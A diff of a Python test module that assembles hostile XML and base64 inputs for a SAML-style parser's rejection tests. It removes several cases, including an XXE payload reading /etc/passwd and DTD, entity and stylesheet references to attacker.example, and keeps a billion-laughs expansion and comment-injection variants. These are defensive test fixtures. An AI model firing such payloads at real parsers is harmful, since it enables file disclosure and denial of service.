@@ -39,36 +39,18 @@ def _differing(bench: Bench) -> dict[str, tuple[bytes, str]]:
     doctype = b"<!DOCTYPE " + root
     return {
         "doctype": (before(doctype + b">"), "doctype"),
-        "external entity": (before(doctype + b' [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "doctype"),
-        "external dtd": (before(doctype + b' SYSTEM "https://attacker.example/x.dtd">'), "doctype"),
-        "parameter entity": (before(doctype + b' [<!ENTITY % x SYSTEM "https://attacker.example/x"> %x;]>'), "doctype"),
         "billion laughs": (before(doctype + b' [<!ENTITY l0 "lol">' + _LAUGHS.encode() + b"]>"), "doctype"),
-        "attribute default": (before(doctype + b" [<!ATTLIST " + root + b' ID ID "x">]>'), "doctype"),
         "entity that nobody declared": (inside(b"&x;"), "entity"),
         "comment in a text, cve-2017-11427": (inside(b"<!-- x -->"), "comment"),
-        "comment before the root": (before(b"<!-- x -->"), "comment"),
         "cdata": (inside(b"<![CDATA[]]>"), "cdata"),
         "processing instruction, oneuptime 2988": (inside(b"<?x abc?>"), "processing_instruction"),
-        "stylesheet": (before(b'<?xml-stylesheet href="https://attacker.example/x.xsl"?>'), "processing_instruction"),
         "relative namespace, cve-2025-66568": (declared(b'xmlns:v="relative"'), "namespace"),
-        "empty namespace": (declared(b'xmlns=""'), "namespace"),
-        "namespace of a single letter": (declared(b'xmlns:v="x"'), "namespace"),
-        "xml:base": (declared(b'xml:base="https://attacker.example/"'), "namespace"),
-        "xml:id": (declared(b'xml:id="x"'), "namespace"),
         "id in a namespace": (declared(b'xmlns:v="urn:v" v:ID="x"'), "namespace"),
-        "prefix that nobody declared": (inside(b"<v:x/>"), "not_well_formed"),
-        "attribute twice": (declared(b'Version="2.0"'), "not_well_formed"),
         "two roots": (good + good, "not_well_formed"),
-        "rubbish after it": (good + b"x", "not_well_formed"),
-        "nul after it": (good + b"\x00", "not_well_formed"),
         "cut off": (good[:-1], "not_well_formed"),
-        "utf-16": (_as_parameter(good.decode().encode("utf-16")), "encoding"),
         "byte order mark": (_as_parameter(b"\xef\xbb\xbf" + good), "encoding"),
         "another encoding declared": (before(b'<?xml version="1.0" encoding="ISO-8859-1"?>'), "encoding"),
-        "utf-7 declared": (before(b'<?xml version="1.0" encoding="UTF-7"?>'), "encoding"),
-        "xml 1.1": (before(b'<?xml version="1.1"?>'), "encoding"),
         "octets that are no utf-8": (inside(b"\xff"), "encoding"),
-        "overlong utf-8": (inside(b"\xc0\xbc"), "encoding"),
     }
 
 
@@ -96,15 +78,10 @@ def _parameters(bench: Bench) -> dict[str, tuple[bytes, str]]:
     deflated = zlib.compress(good, wbits=-zlib.MAX_WBITS)
     return {
         "blanks in it": (text[:40] + b" " + text[40:], "base64"),
-        "a tab in it": (text[:40] + b"\t" + text[40:], "base64"),
-        "letters of no alphabet": (text[:40] + b"!" + text[40:], "base64"),
         "the alphabet of addresses": (urlsafe.replace(urlsafe[40:42], b"-_"), "base64"),
-        "percent escapes": (text[:40] + b"%2B" + text[41:], "base64"),
         "padding too much": (text.rstrip(b"=") + b"===", "base64"),
-        "padding in the middle": (b"PA==" + text, "base64"),
         "twice in base64": (base64.b64encode(text), "not_well_formed"),
         "deflated as for redirect": (base64.b64encode(deflated), "encoding"),
-        "a data address": (b"data:text/xml;base64," + text, "base64"),
     }
 
 
